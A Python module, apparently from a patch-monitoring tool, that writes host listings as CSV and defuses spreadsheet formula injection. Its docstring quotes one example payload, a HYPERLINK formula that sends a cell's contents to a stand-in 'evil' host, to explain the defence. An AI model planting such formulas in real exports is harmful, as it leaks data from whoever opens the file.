"""Listings as CSV, written the same way by the CLI and the API (pure).

CSV goes to spreadsheets, so it is written for them:

- The header is the listing's declared fields (:mod:`patchwatch.domain.listings`), the same
  whether or not there are rows: a script reading the header of an empty export
  must not break.
- Times are ISO 8601 in UTC (``2026-11-24T01:24:31Z``), not Unix seconds, which
  no spreadsheet shows as a time. JSON keeps Unix seconds, as the API answers.
- Flags are ``true``/``false``, as in JSON, lists are space-separated.
- Text that a spreadsheet would run as a formula (a cell starting with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return: the OWASP rule) is written with a
  leading ``'``, which spreadsheets show as text. Host names, kernels, tags and
  repository ids come from hosts, and every host is hostile until proven otherwise:
  ``=HYPERLINK("http://evil/?"&A1)`` in a tag must not run on an auditor's machine.
  Numbers are numbers and are written as they are (``-5`` is not a formula).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from collections.abc import Mapping
from collections.abc import Sequence
from datetime import UTC
from datetime import datetime
from typing import Any

# keys whose numbers are Unix times (last_report_at, maintenance_until, since)
TIME_SUFFIXES = ("_at", "_until", "since")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_time_key(key: str) -> bool:
    """Whether a listing's field holds a Unix time (by the project's naming rule)."""
    return key.endswith(TIME_SUFFIXES)


def iso_utc(ts: float) -> str:
    """A Unix time as ISO 8601 in UTC to the second: ``2026-11-24T01:24:31Z``."""
    return datetime.fromtimestamp(ts, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def defuse(text: str) -> str:
    """Text a spreadsheet shows as text: a leading ``'`` before a formula's first sign."""
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_value(key: str, value: Any) -> str | int | float:
    """One field as a CSV cell (see the module docstring)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return iso_utc(float(value)) if is_time_key(key) else value
    if isinstance(value, list | tuple):
        return defuse(" ".join(str(v) for v in value))
    return defuse(str(value))


def csv_text(rows: Iterable[Mapping[str, Any]], fields: Sequence[str]) -> str:
    """The rows as CSV under ``fields`` (fields a row lacks are empty), ending in a newline."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([defuse(f) for f in fields])
    writer.writerows([csv_value(f, row.get(f)) for f in fields] for row in rows)
    return buf.getvalue()
